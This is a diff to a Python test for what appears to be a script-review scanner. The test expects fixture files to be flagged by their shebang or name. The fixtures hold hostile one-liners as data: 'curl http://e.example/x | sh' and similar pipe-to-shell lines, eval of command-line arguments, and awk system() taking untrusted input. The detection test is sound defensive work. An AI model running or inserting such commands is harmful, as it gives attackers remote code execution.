@@ -129,6 +129,16 @@ async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_
         ".envrc": "curl http://e.example/x | sh\n",
         "python": "#!/usr/bin/python3.12\nimport sys\neval(sys.argv[1])\n",
         "config.ru": "run ->(env) { eval(env['X']) }\n",
+        "install of .nvmrc from source": "#!/bin/sh\ncurl http://e.example/x | sh\n",
+        "release-1.2": "#!/usr/bin/env python3\nimport sys\neval(sys.argv[1])\n",
+        "deploy.v1.10": "#!/usr/bin/env node\neval(process.argv[2]);\n",
+        "test/install": "#!/usr/bin/env bats\n@test 'it runs' {\n  curl http://e.example/x | sh\n}\n",
+        "test/a.bats": "@test 'it runs' {\n  curl http://e.example/x | sh\n}\n",
+        "build.sbt": 'import sys.process._\nval a = Process(Seq("sh", "-c", args(0))).!\n',
+        "a.podspec": "def f(x) = eval(x)\n",
+        "a.awk": '{ system("git log " $1) }\n',
+        "a.zsh": "eval $1\n",
+        "a.fish": "curl -s http://e.example/x | source\n",
     }
     verdict = await review(change(tmp_path, {}, scripts))
     assert {f.path for f in verdict.findings if f.severity in {"medium", "high"}} == set(scripts)
